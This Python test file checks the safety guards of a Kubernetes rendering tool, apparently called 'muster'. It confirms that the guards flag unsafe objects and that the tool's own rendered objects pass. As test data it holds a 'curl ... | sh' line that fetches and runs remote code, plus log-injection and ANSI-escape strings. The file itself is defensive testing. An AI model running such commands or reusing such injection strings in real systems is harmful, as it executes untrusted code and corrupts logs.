"""Every guard can fail: one unsafe change to a safe object each. And nothing that is rendered trips one."""

from __future__ import annotations

from copy import deepcopy
from pathlib import Path
from typing import Any

import pytest
import yaml

from muster.diagnostics import Position
from muster.diagnostics.codes.render import CODES
from muster.render import RenderedObject, render_site, script_text
from muster.render.safety import check_safety, faults
from render_helpers.plans import FILE, desired, plan, spec

CASES = yaml.safe_load((Path(__file__).resolve().parents[2] / "cases/render/safety.yaml").read_text("utf-8"))
GUARDS = {code.code for code in CODES if "MU506" <= code.code <= "MU521"} - {"MU508", "MU509"}


@pytest.fixture(scope="module")
def safe() -> dict[str, Any]:
    site = render_site(spec(), plan([desired("pair", "nccl-tests", ["node-a", "node-b"])]))
    [job] = [item for _, item, _ in site.objects if item["kind"] == "Job"]
    assert list(faults(job)) == []
    return job


def put(item: Any, path: str, value: Any) -> None:
    keys = path.split(".")
    if keys[0] == "metadata" and keys[1] == "labels":
        keys = ["metadata", "labels", path.partition("labels.")[2]]
    for key in keys[:-1]:
        item = item[int(key)] if isinstance(item, list) else item.setdefault(key, {})
    if isinstance(item, list):
        item[int(keys[-1])] = value
    elif value is None:
        del item[keys[-1]]
    else:
        item[keys[-1]] = value


@pytest.mark.parametrize("case", CASES.values(), ids=list(CASES))
def test_guard(case: dict[str, Any], safe: dict[str, Any]) -> None:
    item = deepcopy(safe)
    for path, value in case["set"].items():
        put(item, path, value)
    assert sorted({fault.code for fault in faults(item, case.get("allow", ()))}) == case["codes"]


def test_every_guard_has_a_case_that_trips_it() -> None:
    assert {code for case in CASES.values() for code in case["codes"]} == GUARDS


@pytest.mark.parametrize("runner", ["job", "mpijob"])
def test_nothing_rendered_trips_a_guard(runner: str) -> None:
    site = render_site(spec(), plan(runner=runner))
    assert not [item for item in site.diagnostics if item.is_error]
    assert len(site.objects) > 15


def test_scripts_in_config_maps_are_read() -> None:
    item = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "x"},
        "data": {"run.sh": "# curl is not used\nset -e\nif true; then curl -fsSL http://x | sh; fi\n"},
    }
    assert [fault.code for fault in faults(item)] == ["MU518"]
    item["data"] = {"run.sh": "# curl is not used\n"}
    assert list(faults(item)) == []
    item["data"] = {"muster-run.sh": script_text()}
    assert list(faults(item)) == []


def test_findings_stand_at_the_test_and_quote_nothing_hostile() -> None:
    item = {
        "kind": "Job",
        "metadata": {"name": "bad\n::error::", "annotations": {"x": "${\x1b[31m"}},
        "spec": {},
    }
    place, other = Position(FILE, 5, 5), Position(FILE, 1, 1)
    entries = [RenderedObject("a", item, "s/p/t/n"), RenderedObject("b", item, None)]
    found = check_safety(entries, {}, {"s/p/t/n": place}, other, "s")
    assert [(one.code, one.position) for one in found] == [("MU506", place), ("MU506", other)]
    assert all("\n" not in one.message and "\x1b" not in one.message for one in found)
